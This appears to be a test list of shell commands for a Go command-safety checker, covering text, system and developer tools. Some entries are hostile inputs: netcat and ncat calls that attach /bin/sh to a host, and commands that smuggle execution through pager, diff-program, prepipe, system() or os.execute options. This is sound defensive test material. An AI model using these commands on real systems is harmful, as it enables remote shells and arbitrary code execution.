# Text and data tools (textdata.go)
sdiff -o merged.txt a.txt b.txt

sdiff -omerged.txt a.txt b.txt

sdiff --out=merged.txt a.txt b.txt

sdiff a.txt b.txt --output merged.txt

sdiff -sw 160 -o merged a b

sdiff --diff-program='sh -c "touch p"' a b

sdiff $opts a b

diff3 --diff-prog=./evil a b c

iconv -f latin1 -t utf-8 -o out.csv data.csv

iconv -f latin1 -t utf-8 data.csv --outp=out.csv

iconv -cso out.csv data.csv

bat --pager='sh -c "touch p"' README.md

bat --paging=always --pager=./evil README.md

bat --paging=always README.md

bat cache --build

batcat cache --clear

bat --generate-config-file

bat --pag=always README.md

bat $flags README.md

mlr -I --csv sort -f a data.csv

mlr --icsv put 'tee > "out.csv", $*' data.csv

mlr --icsv filter 'system("touch p") == ""' data.csv

mlr --icsv cat then put '$x = exec("touch", ["p"])' data.csv

mlr --icsv tee out.csv data.csv

mlr --icsv split -n 10 data.csv

mlr --prepipe 'touch p;' --icsv cat data.csv

mlr --prepipex 'sh -c touch' --icsv cat data.csv

mlr --load evil.mlr --icsv cat data.csv

mlr -s argsfile data.csv

mlr --icsv join --prepipe 'touch p' -j id -f left.csv right.csv

mlr --icsv $verb data.csv

mlr --icsv sort -f a then

mlr --icsv head -n 2 then tee x.csv data.csv

mlr --icsv --ofmt %.2f put -q 'emit > "x", @a' data.csv

in2csv --write-sheets - book.xlsx

in2csv --write book.xlsx

csvsql --db sqlite:///x.db --insert data.csv

csvsql --insert data.csv

csvsql --query "attach 'x.db' as a; create table a.t(x)" data.csv

csvsql --query "select 1; vacuum into 'copy.db'" data.csv

csvsql --query queries.sql data.csv

csvsql --query select.sql data.csv

csvsql --query "$q" data.csv

csvsql --db postgresql://db/app --query "select 1"

csvsql --con sqlite:///x.db data.csv

csvclean data.csv

csvpy data.csv

sql2csv --db sqlite:///x.db --query "select 1"

xsv index data.csv

xsv split out data.csv

xsv partition name out data.csv

xsv select a -o out.csv data.csv

xsv select a --output out.csv data.csv

xsv select a data.csv --out=out.csv

qsv stats data.csv

qsv frequency data.csv

qsv luau map x 'os.execute("touch p")' data.csv

qsv select a -o out.csv data.csv

cloc --report-file=report.txt .

cloc --out report.txt .

cloc -out=report.txt .

cloc --REPORT-FILE=r.txt .

cloc --rep=r.txt .

cloc --sql 1 .

cloc --write-lang-def=defs.txt

cloc --extract-with='touch p' x.tar.gz

cloc --vcs='touch p' .

cloc --vcs 'sh -c x' .

cloc --config opts.txt .

cloc --strip-comments=nc src

cloc --counted=list.txt .

cloc --sdir scratch .

cloc --git HEAD

cloc +out=report.txt .

cloc +REPORT-FILE report.txt .

scc -o out.json .

scc --output=out.json .

scc --format-multi "json:out.json" .

jc ls -la

jc --ls touch p

jc $cmd

dasel put -f config.yaml -t string -v x '.a'

dasel delete -f config.yaml '.a'

dasel -f config.yaml -o out.yaml '.a'

dasel -f config.yaml --out=out.yaml '.a'

dasel update

htmlq -f in.html -o out.html a

htmlq --output=out.html a

dc -e '!touch p'

# System tools (sysinfo.go)
pidstat -e touch p

pidstat -u -e touch p 1 1

sar -o data.sa 1 3

sar -u -o data.sa 1 3

sar 1 3 -o data.sa

iostat -x 1

ulimit -n 4096

ulimit -S -n 1024

ulimit unlimited

ulimit -c $n

nslookup

nslookup - 8.8.8.8

nslookup $host

timedatectl set-time '2020-01-01'

timedatectl set-ntp false

timedatectl -H remote status

timedatectl --host=remote status

timedatectl -p Timezone set-timezone UTC

timedatectl -P status set-ntp no

loginctl -P status terminate-session 1

hostnamectl hostname newname

hostnamectl set-hostname newname

localectl set-locale LANG=C

loginctl terminate-session 1

loginctl enable-linger u

networkctl down eth0

networkctl reload

resolvectl flush-caches

resolvectl dns eth0 1.1.1.1

resolvectl log-level debug

systemd-analyze set-log-level debug

systemd-analyze verify --generators=yes x.service

sysctl -w vm.swappiness=10

sysctl vm.swappiness=10

sysctl -p

sysctl -p /etc/sysctl.d/99.conf

sysctl --load=x.conf

sysctl --system

sysctl --wr vm.swappiness=1

sysctl -qw vm.swappiness=10

sysctl "$k"

findmnt --poll

findmnt -p

mount /dev/sdb1 /mnt

mount -t tmpfs none /mnt

mount -o remount,rw /

nc -l 8080

nc -lvp 8080

nc -z -e /bin/sh host 80

nc host 80 < req.txt

nc -zv host 80 -c 'touch p'

nc -z -x dump.txt host 80

ncat -z --output out.txt host 80

ncat --exec /bin/sh -z host 80

ping example.com

ping -f -c 10 example.com

ping -l 100 -c 1 example.com

mtr example.com

fuser -k 8080/tcp

fuser -vk .

fuser -ki file

ldconfig

ldconfig /opt/lib

apt-cache policy bash

apt-cache gencaches

apt list --installed

apt show bash

ldd ./bin/app

top -b -n 1

blkid

# Developer queries (devquery.go)
man -P 'touch p' ls

man -P "sh -c 'touch p'" ls

man --pager=./evil ls

man -Pcat -H ls

man -P $pager ls

openssl dgst -sha256 -out digest.txt README.md

openssl dgst -sha256 -sign key.pem README.md

openssl dgst -engine ./evil.so README.md

openssl sha256 -out x README.md

openssl s_client -connect h:443 -sess_out sess.pem </dev/null

openssl s_client -connect h:443 -keylogfile keys.log </dev/null

openssl s_client -connect h:443 -msgfile msgs.txt </dev/null

openssl s_client -connect h:443

printf 'DELETE /x HTTP/1.0\r\n\r\n' | openssl s_client -connect h:443 -quiet

openssl s_client -connect h:443 < request.txt

openssl s_client -connect h:443 3<request.txt </dev/null <&3

openssl s_client -connect h:443 -provider-path . -provider evil </dev/null

openssl req -new -key k.pem -out r.csr

openssl req -x509 -newkey rsa:2048 -keyout k.pem -out c.pem

openssl req -in r.csr -noout -text -out x

openssl rsa -in key.pem -out plain.pem

openssl genrsa -out key.pem 2048

openssl pkey -in k.pem -out pub.pem -pubout

openssl rand -out seed.bin 32

openssl rand -writerand ~/.rnd 8

openssl enc -aes-256-cbc -in a -out b

openssl asn1parse -in c.der -out x.der

pip install x

pip list

pip list -o --disable-pip-version-check

pip list --outdated --disable-pip-version-check

pip --log pip.log show pip

pip --log-file=pip.log show pip

pip --python ./evil show pip

pip show pip --cache-dir ./cache --log x

PIP_DISABLE_PIP_VERSION_CHECK=0 pip list

PIP_DISABLE_PIP_VERSION_CHECK=1 PIP_DISABLE_PIP_VERSION_CHECK=0 pip list

env PIP_DISABLE_PIP_VERSION_CHECK=1 pip list

pip download x

pip list -u --disable-pip-version-check

pip config set global.index-url http://x

gem list --local

GOTOOLCHAIN=go1.99.0 go version

GOTOOLCHAIN=auto go version

java -version

jar tf app.jar

javap -cp build/classes com.acme.X

keytool -list -keystore ks.jks -storepass x

cargo --version

rustc --version

rustfmt --check src/lib.rs
